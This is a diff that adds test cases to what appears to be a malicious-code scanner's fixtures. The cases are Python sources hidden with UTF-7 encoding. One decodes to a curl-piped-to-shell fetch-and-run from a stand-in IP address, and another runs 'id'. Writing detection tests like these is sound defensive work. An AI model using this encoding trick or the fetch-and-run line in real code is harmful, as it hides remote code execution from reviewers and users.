@@ -186,6 +186,24 @@ subprocess.call([program])
 `,
   },
   {
+    name: 'a source written in UTF-7 hiding a fetch-and-run',
+    least: 'critical',
+    rule: 'malicious-command',
+    source: `# coding: utf-7
+import os
++AG8AcwAuAHMAeQBzAHQAZQBtACgAIgBjAHUAcgBsACAALQBzACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADkALwB4ACAAfAAgAHMAaAAiACk-
+`,
+  },
+  {
+    name: 'the UTF-7 source itself',
+    least: 'high',
+    rule: 'obfuscation',
+    source: `# coding: utf-7
+import os
++AG8AcwAuAHMAeQBzAHQAZQBtACgAIgBpAGQAIgAp-
+`,
+  },
+  {
     name: '/etc/shadow sent over a socket',
     least: 'high',
     rule: 'credential-access',
